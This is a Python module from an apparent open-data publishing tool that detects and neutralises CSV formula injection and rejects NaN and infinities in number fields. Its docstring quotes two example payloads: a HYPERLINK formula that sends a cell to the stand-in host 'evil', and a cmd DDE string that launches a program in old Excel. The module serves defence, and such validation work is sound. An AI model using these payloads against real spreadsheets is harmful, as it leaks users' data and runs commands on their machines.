"""Values that are valid text or numbers but do harm or mislead: formulas, NaN and infinities.

**Formulas.** A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run as a formula by a spreadsheet that opens the CSV (OWASP "CSV injection"):
``=HYPERLINK("http://evil/?"&A1, "Klicka")`` leaks data, ``+cmd|' /C calc'!A0`` starts a program
on old Excel. Such text cells are reported as warnings with row and column, and the manifest's
``formulas`` decides: ``neutralise`` (default) publishes them with a leading ``'`` so a
spreadsheet shows them as text, as OWASP recommends; ``refuse`` makes them errors; ``keep``
publishes them as they are. A text cell that is just a signed number (``-5``, ``+46``) or a
lone ``-`` is not a formula and is left alone. All published files carry the same values.

**NaN and infinities.** ``NaN``, ``INF`` and ``-INF`` are numbers to Table Schema, but not
values a reader can compute with, and a typo (``inf`` for ``info``) would pass; a number field
refuses them unless the schema's field says ``"nonFinite": true``.
"""

from __future__ import annotations

from dataclasses import replace

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from opendata.arrow_build import flags, int64s
from opendata.prepare import PreparedTable
from opendata.report import CellError, ValidationReport
from opendata.table_schema import TableSchema

FORMULA_START = r"^[=+\-@\t\r]"
NOT_A_FORMULA = r"^([+-]?[0-9]+([.,][0-9]+)?|-)$"
NON_FINITE = r"(?i)^\s*[+-]?(nan|inf|infinity)\s*$"
MAX_FINDINGS = 1000  # per kind: the report shows 200; the count says how many more


def check_doubtful(
    prepared: PreparedTable, schema: TableSchema, report: ValidationReport, formulas: str
) -> PreparedTable:
    """Add the findings to ``report``; return the table with formulas neutralised if asked."""
    report.errors.extend(_non_finite(prepared, schema))
    if not report.valid:
        return prepared
    text_fields = [f["name"] for f in schema.fields if f.get("type", "string") == "string"]
    found: dict[str, np.ndarray] = {}
    findings: list[CellError] = []
    for name in text_fields:
        if name not in prepared.table.column_names:
            continue
        rows = _formula_rows(prepared.table.column(name))
        if rows.size:
            found[name] = rows
            findings += _describe(prepared, name, rows, formulas)
    if not found:
        return prepared
    if formulas == "refuse":
        report.errors.extend(findings)
        return replace(prepared, typed=None)
    report.warnings.extend(findings)
    if formulas == "keep":
        return prepared
    table = _neutralised(prepared.table, found)
    typed = _neutralised(prepared.typed, found) if prepared.typed is not None else None
    return replace(prepared, table=table, typed=typed)


def _formula_rows(column: pa.ChunkedArray) -> np.ndarray:
    """Rows whose text starts like a formula: the first byte of every cell read at once (numpy),
    the regular expressions only on the few candidates (two per cell cost more than the rest
    of the check of a wide text table)."""
    found, base = [], 0
    for chunk in column.cast(pa.string()).chunks:
        candidates = _formula_starts(chunk)
        if candidates.size:
            number = pc.match_substring_regex(chunk.take(int64s(candidates)), NOT_A_FORMULA)
            candidates = candidates[~flags(number)]
        found.append(candidates + base)
        base += len(chunk)
    return np.concatenate(found) if found else np.zeros(0, dtype=np.int64)


def _formula_starts(chunk: pa.Array) -> np.ndarray:
    """Indices of the non-null cells whose first byte is one of FORMULA_START's (all ASCII)."""
    data = chunk.buffers()[2]
    if not len(chunk) or data is None:
        return np.zeros(0, dtype=np.int64)
    offsets = np.frombuffer(chunk.buffers()[1], dtype=np.int32)[chunk.offset : chunk.offset + len(chunk) + 1]
    starts, filled = offsets[:-1], offsets[1:] > offsets[:-1]
    first = np.zeros(len(chunk), dtype=np.uint8)
    first[filled] = np.frombuffer(data, dtype=np.uint8)[starts[filled]]
    hit = np.isin(first, _FORMULA_BYTES) & filled
    if chunk.null_count:
        hit &= flags(chunk.is_valid())
    return np.flatnonzero(hit)


_FORMULA_BYTES = np.frombuffer(b"=+-@\t\r", dtype=np.uint8)  # FORMULA_START's characters


def _describe(prepared: PreparedTable, name: str, rows: np.ndarray, mode: str) -> list[CellError]:
    what = {
        "neutralise": "published with a leading ' so a spreadsheet shows it as text",
        "refuse": "refused (formulas: refuse); remove it, or set formulas: neutralise",
        "keep": "published as it is (formulas: keep)",
    }[mode]
    column = prepared.table.column(name)
    source = prepared.source_columns.get(name, name)
    return [
        CellError(
            "formula",
            f"the text starts like a spreadsheet formula; {what}",
            row=prepared.source_row(int(i)),
            column=name,
            source_column=source,
            value=_short(str(column[int(i)].as_py())),
        )
        for i in rows[:MAX_FINDINGS]
    ]


def _neutralised(table: pa.Table, found: dict[str, np.ndarray]) -> pa.Table:
    for name, rows in found.items():
        index = table.column_names.index(name)
        values = table.column(name).to_pylist()
        for i in rows:
            values[int(i)] = "'" + values[int(i)]
        table = table.set_column(index, table.field(index), pa.array(values, table.field(index).type))
    return table


def _non_finite(prepared: PreparedTable, schema: TableSchema) -> list[CellError]:
    errors: list[CellError] = []
    for f in schema.fields:
        if f.get("type") != "number" or f.get("nonFinite") is True:
            continue
        name = f["name"]
        if name not in prepared.table.column_names:
            continue
        text = prepared.table.column(name).cast(pa.string())
        for i in np.flatnonzero(flags(pc.match_substring_regex(text, NON_FINITE)))[:MAX_FINDINGS]:
            errors.append(
                CellError(
                    "type",
                    "NaN and infinities are not allowed in this number field; give a number, leave the cell "
                    'empty, or set "nonFinite": true on the field in the schema',
                    row=prepared.source_row(int(i)),
                    column=name,
                    source_column=prepared.source_columns.get(name, name),
                    value=_short(str(prepared.cell_as_written(name, int(i), str(text[int(i)].as_py())))),
                )
            )
    return errors


def _short(text: str, limit: int = 80) -> str:
    return text if len(text) <= limit else text[: limit - 1] + "…"
